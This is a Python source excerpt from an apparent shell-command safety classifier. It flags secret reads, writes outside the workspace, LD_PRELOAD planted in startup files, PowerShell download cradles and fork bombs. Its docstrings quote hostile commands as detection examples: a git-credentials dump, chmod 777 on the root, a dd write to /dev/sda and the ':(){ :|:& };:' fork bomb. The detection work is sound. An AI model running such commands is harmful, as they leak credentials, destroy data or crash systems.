            targets = [
                a
                for g in facts
                if g.cmd.pipeline == f.cmd.pipeline and g.cmd.pipe_index > f.cmd.pipe_index and g.name in ("tee", "crontab")
                for a in (g.paths or [PathAccess("write", "crontab", "/var/spool/cron/crontab", "crontab")])
                if a.op == "write" and (g.name == "crontab" or runs_later(a.resolved))
            ]
        if not targets:
            continue
        text = f.prints if f.prints is not None else literal_output(f.cmd.argv)
        if text is None:
            text = " ".join(a for a in f.cmd.argv[1:] if a not in ("-e", "-n", "-E"))
        target = targets[0].resolved
        text = as_commands(text, target)
        found: list[_Hit] = []
        _nested(text, f"text written to {target}", ctx, depth, found)
        for hit in found:
            if CODES[hit.code].hard:
                hits.append(hit)
            elif hit.code == "CAT021" and _loads_code(hit.detail):  # LD_PRELOAD=… planted in a startup file
                hits.append(_Hit("HB011", f"{hit.detail} planted in {target}", hit.command))


def _loads_code(detail: str) -> bool:
    """The finding names a variable that makes every later program load code
    (``env.CODE_LOADING_ENV``: LD_PRELOAD, BASH_ENV …), not one that only steers which
    program runs (``PATH=$PATH:~/bin`` in ``~/.bashrc`` is everyday setup; writing the
    file still asks)."""
    return any(_standalone(name).search(detail) for name in CODE_LOADING_ENV)


@cache
def _standalone(name: str) -> re.Pattern[str]:
    """``name`` as a whole variable name (not part of a longer one)."""
    return compiled(rf"(?<![A-Z0-9_]){name}(?![A-Z0-9_])")


def _find_exec_inputs(facts: list[Facts], ctx: Ctx, hits: list[_Hit]) -> None:
    """``find ROOT … -exec CMD {} \\;`` runs CMD on ROOT and everything below it: judge
    CMD with ``{}`` replaced by each start point, so ``find ~/.git-credentials -exec
    cat {} \\;`` dumps a secret, ``find /etc -exec sed -i … {} +`` writes outside the
    workspace and ``find / -exec chmod 777 {} +`` opens up the root. ``{}`` also stands
    for each file the expression names outright (``find /dev -maxdepth 1 -name sda
    -exec dd of={}`` writes ``/dev/sda``: :func:`named_matches`). Deleters are judged
    only on those named files: the parent ``find`` already reports what they delete
    below ROOT (``ROOT/*``)."""
    from .checks.find_expr import named_matches

    for i, f in enumerate(facts):
        if f.cmd.origin != "find -exec" or not any("{}" in a for a in f.cmd.argv):
            continue
        parent = next((p for p in reversed(facts[:i]) if p.name in ("find", "bfs") and p.cmd.depth < f.cmd.depth), None)
        if parent is None:
            continue
        if "{}" in _program_operand(f):
            # ``find . -name '*.py' -execdir python3 {} \\;`` runs every file it finds
            hits.append(_Hit("CAT006", f"{f.label} (runs each file find matches)", f.label))
            continue
        args = parent.cmd.argv[1:]
        deleter = f.name in _FIND_DELETERS
        for root in ([] if deleter else find_roots(args)) + named_matches(args, deeper=not deleter):
            argv = tuple(a.replace("{}", root) for a in f.cmd.argv)
            fed = classify(replace(f.cmd, argv=argv, origin="top"), ctx)
            own = {h.code for h in f.hits}
            hits.extend(_Hit(h.code, f"{h.detail} [via find -exec]", fed.label) for h in fed.hits if h.code not in own)
            f.secrets.extend(fed.secrets)
            f.paths.extend(a for a in fed.paths if a.op == "write" and a not in f.paths)
            f.at_least(fed.tier)


def _program_operand(f: Facts) -> str:
    """The file a shell or interpreter runs (``python X``, ``java -jar X``), or ""."""
    if f.name not in C.SHELLS and f.name not in C.INTERPRETERS:
        return ""
    args = f.cmd.argv[1:]
    if f.name == "java" and "-jar" in args[:-1]:
        return args[args.index("-jar") + 1]
    if f.name == "php" and "-l" in args:
        return ""  # ``php -l FILE`` only checks the syntax
    code = C.INTERPRETERS.get(f.name, frozenset({"-c"}))
    parsed = parse_args(args, C.INTERPRETER_VALUE_OPTS.get(f.name, frozenset()) | code | {"-m"}, stop_at_operand=True)
    if parsed.has(*code, "-m"):
        return ""
    return parsed.operands[0] if parsed.operands else ""


_FIND_DELETERS = frozenset({"rm", "unlink", "rmdir", "shred", "srm", "wipe"})


@cache
def _raw_pattern_table() -> tuple[tuple[str, re.Pattern[str]], ...]:
    return (
        # PowerShell download cradles pasted into a shell
        ("HB005", compiled(r"(?:\biex\b|Invoke-Expression)[^\n]*(?:DownloadString|Invoke-WebRequest|\biwr\b|Net\.WebClient)|(?:DownloadString|Invoke-WebRequest|\biwr\b)[^\n]*\|\s*(?:iex|Invoke-Expression)\b", IGNORECASE)),
    )


_READ_SUBST = LazyPattern(r"\$\(\s*<\s*([^)\s]+)\s*\)")
#: A word every PowerShell cradle of :func:`_raw_pattern_table` holds (a quick test).
_CRADLE_WORD = LazyPattern(r"iex|invoke-|downloadstring|iwr", IGNORECASE)


def _raw_patterns(raw: str, commands: Sequence[SimpleCommand], ctx: Ctx, hits: list[_Hit]) -> None:
    """Constructs the parser refuses but whose meaning is plain: PowerShell cradles,
    and ``$(<file)`` (bash's "read this file")."""
    for code, pattern in _raw_pattern_table():
        match = pattern.search(raw)
        if match and not _quoted_data(match.group(0), commands):
            hits.append(_Hit(code, match.group(0)[:80], match.group(0)[:80]))
    for match in _READ_SUBST.finditer(raw):
        path = resolve(match.group(1), ctx.cwd, ctx.home)
        level = secret_level(path, ctx.home)
        if level >= 2:
            hits.append(_Hit("HB009", f"$(<{match.group(1)})", match.group(0)))
        elif level:
            hits.append(_Hit("CAT003", f"$(<{match.group(1)})", match.group(0)))


def _quoted_data(text: str, commands: Sequence[SimpleCommand]) -> bool:
    """Whether ``text`` sits inside an argument of a command that does not run it."""
    for cmd in commands:
        if cmd.name in C.SHELLS or cmd.name == "eval":
            continue
        if any(text in arg for arg in cmd.argv[1:]):
            return True
    return False


def _fork_bombs(raw: str, commands: Sequence[SimpleCommand], hits: list[_Hit]) -> None:
    text = fork_bomb(raw)
    if text is None or _quoted_data(text, commands):
        return  # quoted data: ``echo ':(){ :|:& };:'``
    hits.append(_Hit("HB004", text[:60], text[:60]))


# --------------------------------------------------------------------------- summary


def _summarise(parsed: Script | TooComplex, facts: list[Facts], hits: list[_Hit]) -> Analysis:
    out = Analysis()
    seen: set[tuple[str, str]] = set()
    destructive = False
    for hit in hits:
        key = (hit.code, hit.detail)
        if key in seen:
            continue
        seen.add(key)
        info = CODES[hit.code]
        out.factors.append(factor(hit.code, hit.detail, hit.command))
        destructive = destructive or info.destructive
        if info.hard:
            out.hard_blocks.append(finding(hit.code, hit.detail))
        elif at_least(info.severity, Severity.MEDIUM):
            out.findings.append(finding(hit.code, hit.detail))
    tier = Tier.READ_ONLY
    fed: list[Facts] = []  # stages that read a program from stdin
    planned: list[str] = []
    for f in facts:
        if f.tier is not tier:
            tier = tier.max(f.tier)
        if f.paths:
            out.paths.extend(f.paths)
        if f.hosts:
            out.hosts.extend(h for h in f.hosts if h)
        if not f.known:
            out.unknown.append(_unknown_name(f))
        if f.roles:
            if "exec_stdin" in f.roles and (f.name in C.INTERPRETERS or f.name in C.LOCAL_SQL):
                fed.append(f)
            if "runs_planned" in f.roles:
                planned.append(f.cmd.text)
    complex_ = bool(parsed.complex)
    if complex_ and getattr(parsed, "soft", False):
        from .unknowns import resolved

        out.resolved = resolved(parsed.commands, facts)
        complex_ = not out.resolved
    if out.findings or out.unknown or complex_:
        tier = tier.max(Tier.HIGH_RISK)
    if destructive or out.hard_blocks:
        tier = Tier.DESTRUCTIVE
    out.tier = tier
    out.destructive = destructive or bool(out.hard_blocks)
    if fed and all("program_read" in f.roles for f in fed):
        out.answered = _ANSWERED
    if out.resolved or (parsed.findings and not parsed.complex):
        # the substitutions SH008 names were judged, or folded into the known text they
        # print (``$(pwd)``, ``$(which x)``, a literal ``$(echo …)``: ``syntax.values``)
        out.answered = out.answered | _RESOLVED
    if planned:
        out.planned_runs = frozenset(planned)
    if out.hosts:
        out.hosts = list(dict.fromkeys(out.hosts))
    if out.unknown:
        out.unknown = list(dict.fromkeys(out.unknown))
    if out.factors:
        out.safety = safety(out.factors)
    out.known_safe = (
        not complex_
        and not (parsed.findings and any(at_least(f.severity, Severity.MEDIUM) and f.code not in out.answered
                                         for f in parsed.findings))
        and not out.hard_blocks
        and not out.findings
        and not out.unknown
        and (tier is Tier.READ_ONLY or tier is Tier.LOW_RISK)
    )
    return out


_ANSWERED = frozenset({"SH026"})
_RESOLVED = frozenset({"SH008"})


def _unknown_name(f: Facts) -> str:
    from ..catalog.catalog_cli import known as _long_tail

    if f.name in ("git",) or f.name in C.TOOLS or _long_tail(f.name):
        return f.label
    argv0 = f.cmd.argv[0] if f.cmd.argv else ""
    return argv0 if "/" in argv0 else (f.cmd.name or f.label)
